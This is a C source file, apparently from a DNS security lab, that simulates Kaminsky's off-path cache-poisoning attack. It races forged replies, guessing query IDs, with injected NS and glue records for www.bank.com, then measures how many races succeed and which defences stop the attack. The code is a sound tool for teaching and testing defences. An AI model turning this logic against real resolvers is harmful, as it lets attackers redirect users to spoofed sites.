/* kaminsky: an off-path attacker replaces the records of a zone (Kaminsky, 2008).
 *
 * The attacker cannot hear the resolver's queries, but it can cause them: any page that a
 * client opens may name 1.bank.com, 2.bank.com and so on.  For each name there is a new query
 * and a new race between the bank's server and forged replies, of which each guesses the
 * query's ID.  The forged reply that wins carries a record for www.bank.com as well.
 *
 * If all queries leave from one port, 16 bits of ID are all that protects the resolver.  How
 * the attacker learns the port: it has the client ask for a name of its own zone, and reads it
 * in the query that its own server receives. */
#include <unistd.h>

#include "base/now.h"
#include "tools/lab/experiment.h"

enum {
    RACES_MAX = 1500,         /* without random ports: more than 20 times what is expected */
    RACES_MAX_DEFENDED = 100, /* with them a year would not do */
    WINDOW_US = 30000,        /* the bank's reply takes about 32 ms */
    PATIENCE_MS = 3000,
};

/* What the attacker knows, and what it counts. */
struct kaminsky {
    struct trial *t;
    int forger;
    uint16_t port; /* from which the resolver's queries leave, as far as is known */
    unsigned races;
    uint64_t guesses;
};

/* Send forged replies for as long as the bank's own reply is under way. */
static void run_race(struct kaminsky *k, const char *name)
{
    static struct trial_message m;
    const struct addr from = trial_addr("bank", 53), to = trial_addr("resolver", k->port);
    uint8_t qname[DNAME_MAX];
    uint64_t end_us = now_mono_us() + WINDOW_US;

    trial_name(name, qname);
    trial_begin(&m, 0, MESSAGE_QR | MESSAGE_AA, qname, RRTYPE_A);
    trial_record_a(&m, MESSAGE_ANSWER, name, 3600, "192.0.2.66");
    trial_record_name(&m, MESSAGE_AUTHORITY, "bank.com", RRTYPE_NS, 3600, "www.bank.com");
    trial_record_a(&m, MESSAGE_ADDITIONAL, "www.bank.com", 3600, "192.0.2.66");
    k->guesses += trial_guess_ids(k->t, k->forger, &from, &to, m.wire, m.len, end_us);
    k->races++;
}

static bool is_poisoned(const struct trial *t, struct trial_reply *reply)
{
    *reply = trial_ask(t, "alice", "www.bank.com", RRTYPE_A);
    return strcmp(reply->address, "192.0.2.66") == 0;
}

static void run_kaminsky(struct trial *t)
{
    struct kaminsky k = {.t = t, .forger = trial_open_forger(t, "attacker")};
    struct trial_reply reply = {0};
    char name[64];
    bool has_won = false;

    k.port = trial_learn_port(t);
    trial_tell(t, "the resolver's queries leave from port %u, it seems", k.port);
    const unsigned races_max =
        t->off.is_off[DEFENCE_RANDOM_PORT] ? RACES_MAX : RACES_MAX_DEFENDED;
    while (!has_won && k.races < races_max) {
        snprintf(name, sizeof(name), "%u.bank.com", k.races);
        int client = trial_ask_begin(t, "alice", name, RRTYPE_A);
        run_race(&k, name);
        struct trial_reply own = trial_ask_end(client, PATIENCE_MS);
        has_won = strcmp(own.address, "192.0.2.66") == 0;
        if (has_won)
            trial_tell(t, "race %u: a forged reply for %s was believed", k.races, name);
    }
    bool is_done = is_poisoned(t, &reply);
    close(k.forger);
    trial_number(t, "races", k.races);
    trial_number(t, "guesses", (int64_t)k.guesses);
    trial_real(t, "guesses-per-race", (double)k.guesses / k.races);
    trial_real(t, "expected-races", 65536.0 * k.races / (double)k.guesses);
    if (is_done)
        trial_end(t, true, "www.bank.com is 192.0.2.66 for every client");
    else
        trial_end(t, false, "www.bank.com is %s after %u races", reply.address, k.races);
}

const struct experiment experiment_kaminsky = {
    .name = "kaminsky",
    .what = "an off-path attacker forges replies to names that it made the resolver ask",
    .without = "random-port,0x20,cookies,wrong-reply-tcp,sections,dnssec",
    .stopped =
        "random ports: 16 bits more to guess; 0x20 and cookies add more; the first wrong "
        "reply moves the query to TCP; records that were not asked for are ignored",
    .counters = {"queries-sent-udp", "queries-sent-tcp"},
    .run = run_kaminsky,
};
